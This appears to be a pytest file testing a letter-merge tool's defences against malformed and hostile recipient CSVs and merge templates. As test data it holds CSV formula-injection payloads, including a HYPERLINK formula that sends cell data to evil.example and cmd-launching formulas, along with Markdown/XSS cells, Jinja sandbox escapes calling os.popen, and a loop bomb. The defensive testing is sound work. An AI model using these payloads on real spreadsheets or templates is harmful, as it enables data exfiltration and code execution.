"""Hostile recipient lists and merge specs: tables and templates that must not slip through.

Sources: RFC 4180 quoting (a quote opened and never closed makes Python's csv module read
every following line into one cell), OWASP "CSV Injection" (CWE-1236: a cell starting
with ``=``, ``+``, ``-`` or ``@`` is a formula to a spreadsheet), Markdown injection
(CWE-74: a cell ``[x](javascript:…)`` or ``<img …>`` in Markdown output), Excel's "Unicode
Text" export (UTF-16 with a byte-order mark), and Jinja sandbox escapes in a merge spec
(PortSwigger SSTI, CVE-2024-56326, CVE-2025-27516, a nested-loop bomb): the sandbox
refuses them, and a merge says so once, before anything is written.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tests.hostile.harness import assert_bounded, assert_refused, run

MERGE_SPEC = """\
audience: us-congress
date: 2026-10-05
sender: {organization: Harbor Lights Advocacy}
subject: Oversight of river dredging
body:
  - "BODY"
asks:
  - lead: Hold a public hearing.
complimentary_close: Sincerely,
signatories:
  - name: Rowan Vale
    organization: Harbor Lights Advocacy
"""
STATE_LINE = "People in {{ recipient.state }} wrote to us."
HEADER = "Name,Office,Gender,State\n"


def _merge_case(
    case: Path, rows: str, body: str = STATE_LINE, *, data: bytes | None = None
) -> None:
    (case / "spec.yaml").write_text(MERGE_SPEC.replace("BODY", body), encoding="utf-8")
    (case / "r.csv").write_bytes(data if data is not None else (HEADER + rows).encode("utf-8"))


@pytest.mark.parametrize(
    ("rows", "line"),
    [
        # the open quote in the last column: the next two rows would become Ann's state
        ('Ann Birch,us-senator,F,"Oregon\nBo Chen,us-senator,M,Iowa\nCy Dunn,us-senator,M,Ma\n', 2),
        # in the first column of the third row
        ('Ann Birch,us-senator,F,Oregon\n"Bo Chen,us-senator,M,Iowa\nCy Dunn,us-senator,M,Ma\n', 3),
        # after a cell that rightly spans two lines
        ('Ann Birch,us-senator,F,"Ore\ngon"\nBo Chen,us-senator,M,"Idaho\n', 4),
    ],
    ids=["last-column", "first-column", "after-a-multiline-cell"],
)
def test_an_unterminated_quote_is_refused_with_its_line(rows: str, line: int, case: Path) -> None:
    _merge_case(case, rows)
    result = run(["merge", "spec.yaml", "-r", "r.csv", "-o", "out", "--format", "txt"], case)
    error = assert_refused(result, names=f"r.csv:{line}", says="never closed")
    assert "out" not in result.after and not (case / "out").exists(), error


def test_an_unterminated_quote_in_a_signatory_export_is_refused(case: Path) -> None:
    (case / "form.csv").write_text(
        'name,organization\nAnn Birch,"Harbor Lights\nBo Chen,River Watch\n', encoding="utf-8"
    )
    assert_refused(run(["signatories", "import", "form.csv"], case), names="form.csv:2",
                   says="never closed")  # fmt: skip


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def test_formula_cells_are_neutralised_in_the_manifest_and_printed_literally(case: Path) -> None:
    buffer = [HEADER.strip()]
    for index, formula in enumerate(FORMULAS):
        quoted = '"' + formula.replace('"', '""') + '"'
        buffer.append(f"{quoted},us-senator,F,Oregon" if index == 0 else
                      f"Member {index},us-senator,M,{quoted}")  # fmt: skip
    _merge_case(case, "", data=("\n".join(buffer) + "\n").encode("utf-8"))
    result = run(["merge", "spec.yaml", "-r", "r.csv", "-o", "out", "--format", "txt"], case)
    assert_bounded(result)
    assert result.code == 0, result.describe()
    with (case / "out" / "manifest.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 4
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), rows
    assert rows[0]["recipient"] == "'" + FORMULAS[0]
    letters = sorted((case / "out").glob("*.txt"))
    assert len(letters) == 4
    texts = [path.read_text(encoding="utf-8") for path in letters]
    for formula in FORMULAS[1:]:  # the letters print the cell as written (quotes curled)
        start = formula.split("'")[0]
        assert any(f"People in {start}" in text for text in texts), texts


def test_cells_are_data_in_markdown_output(case: Path) -> None:
    rows = (
        "Ann Birch,us-senator,F,Ore*gon*\n"
        "Bo Chen,us-senator,M,**bold**[x](javascript:alert(1))\n"
        'Cy Dunn,us-senator,M,"<img src=x onerror=alert(1)> {{7*7}}"\n'
        "Di Eng,us-senator,F,[site](https://example.org)\n"
    )
    _merge_case(case, rows)
    result = run(["merge", "spec.yaml", "-r", "r.csv", "-o", "out", "--format", "md"], case)
    assert_bounded(result)
    assert result.code == 0, result.describe()
    text = "\n".join(p.read_text(encoding="utf-8") for p in sorted((case / "out").glob("*.md")))
    assert "](javascript:" not in text.replace("\\](javascript:", "")
    assert "\\[x\\](javascript:alert(1))" in text
    assert "<img" not in text.replace("\\<img", "") and "\\<img src=x" in text
    assert "{{7\\*7}}" in text and "49" not in text
    assert "Ore\\*gon\\*" in text
    # a cell's link is data too: printed as written, not made a link
    assert "\\[site\\](https://example.org)" in text


def test_a_utf16_recipient_list_is_read(case: Path) -> None:
    rows = HEADER + "Tomás Núñez,us-senator,M,Nevada\n"
    _merge_case(case, "", data=rows.encode("utf-16"))  # Excel's "Unicode Text" (with a BOM)
    result = run(["merge", "spec.yaml", "-r", "r.csv", "-o", "out", "--format", "txt"], case)
    assert_bounded(result)
    assert result.code == 0, result.describe()
    (letter,) = (case / "out").glob("*.txt")
    text = letter.read_text(encoding="utf-8")
    assert "Tomás Núñez" in text and "People in Nevada wrote to us." in text


def test_a_list_in_windows_1252_is_read_and_the_encoding_reported(case: Path) -> None:
    # what Excel's "CSV (Comma delimited)" writes on a Western-European Windows
    _merge_case(case, "", data=(HEADER + "José Núñez,us-senator,M,Nevada\n").encode("cp1252"))
    result = run(["merge", "spec.yaml", "-r", "r.csv", "-o", "out", "--format", "txt"], case)
    assert_bounded(result)
    assert result.code == 0, result.describe()
    assert "r.csv read as CSV, Windows-1252 (detected" in result.stderr
    (letter,) = (case / "out").glob("*.txt")
    assert "José Núñez" in letter.read_text(encoding="utf-8")


def test_a_list_mixing_utf8_and_windows_1252_names_the_line_and_what_to_do(case: Path) -> None:
    data = (HEADER + "Zoë Brandt,us-senator,F,Oregon\n").encode("utf-8")
    data += "José Núñez,us-senator,M,Nevada\n".encode("cp1252")
    _merge_case(case, "", data=data)
    result = run(["merge", "spec.yaml", "-r", "r.csv", "-o", "out"], case)
    assert_refused(result, names="r.csv:3", says=["mixes UTF-8 with another encoding", "UTF-8"])


@pytest.mark.parametrize(
    ("body", "says"),
    [
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "unsafe template"),
        ("{{ cycler.__init__.__globals__.os.popen('touch PWNED') }}", "unsafe template"),
        ("{% set g = '{0.__class__.__mro__}'.format %}{{ g(joiner) }}", "unsafe template"),
        ("{{ ('{0.__class__.__base__}'|attr('format'))(namespace) }}", "unsafe template"),
        ("{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
         "loops may run at most"),
    ],
    ids=["mro", "cycler-globals", "stored-format", "attr-format", "loop-bomb"],
)  # fmt: skip
def test_a_refused_template_stops_the_merge_once_before_anything_is_written(
    body: str, says: str, case: Path
) -> None:
    rows = "".join(f"Member {n},us-senator,M,Oregon\n" for n in range(1, 6))
    _merge_case(case, rows, body=body)
    result = run(["merge", "spec.yaml", "-r", "r.csv", "-o", "out", "--format", "txt"], case)
    assert_refused(result, names="spec.yaml", says=[says, "body[0]"])
    assert not (case / "out").exists() and not (case / "PWNED").exists()


def test_a_row_without_a_name_is_named_once(case: Path) -> None:
    _merge_case(case, "Ann Birch,us-senator,F,Oregon\n\x00,us-senator,M,Idaho\n")
    result = run(["merge", "spec.yaml", "-r", "r.csv", "-o", "out", "--format", "txt"], case)
    assert_bounded(result)
    skipped = [line for line in result.lines if "skipped" in line]
    assert len(skipped) == 1, result.describe()
    assert skipped[0].count("r.csv:3") == 1 and "U+0000" in skipped[0], result.describe()
